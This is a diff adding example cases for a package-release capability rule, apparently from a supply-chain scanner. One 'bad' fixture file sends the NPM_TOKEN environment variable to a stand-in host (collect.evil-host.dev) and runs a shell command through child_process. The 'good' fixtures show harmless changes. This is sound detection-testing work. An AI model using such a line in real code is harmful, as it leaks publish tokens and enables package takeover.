@@ -1,0 +1,39 @@
+import { defineExamples } from '../../model/example.ts'
+import rule from './capability.ts'
+import { release } from './content/example-releases.ts'
+
+const CODE = "module.exports = require('http').get('http://api.acme.dev/v1')\n"
+
+export default defineExamples(rule, {
+  bad: [
+    {
+      message: 'hosts',
+      title: 'A token sent to a host',
+      before: release('1.0.0'),
+      files: release(
+        '1.0.1',
+        {},
+        {
+          'send.js':
+            "require('https').get('https://collect.evil-host.dev/?' + process.env.NPM_TOKEN)\nrequire('node:child_process').exec('id')\n",
+        },
+      ),
+    },
+  ],
+  good: [
+    {
+      title: 'The same as before',
+      before: release('1.0.0', {}, { 'get.js': CODE }),
+      files: release('1.0.1', {}, { 'get.js': `${CODE}// see https://docs.acme.dev\n` }),
+    },
+    {
+      title: 'What only a comment and a text name',
+      before: release('1.0.0'),
+      files: release(
+        '1.0.1',
+        {},
+        { 'say.js': "// require('net'), process.env.TOKEN\nexports.text = 'see http://acme.dev'\n" },
+      ),
+    },
+  ],
+})
